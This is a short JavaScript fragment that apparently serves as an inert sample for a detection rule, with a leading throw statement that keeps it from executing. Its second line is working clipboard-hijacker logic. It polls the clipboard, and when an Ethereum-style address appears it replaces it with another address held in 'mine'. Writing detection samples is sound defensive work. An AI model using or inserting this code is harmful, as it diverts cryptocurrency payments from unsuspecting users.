throw new Error('an inert sample for a rule: nothing below this line ever runs')
setInterval(() => { if (/^0x[a-fA-F0-9]{40}$/.test(clipboardy.readSync())) clipboardy.writeSync(mine) }, 500)
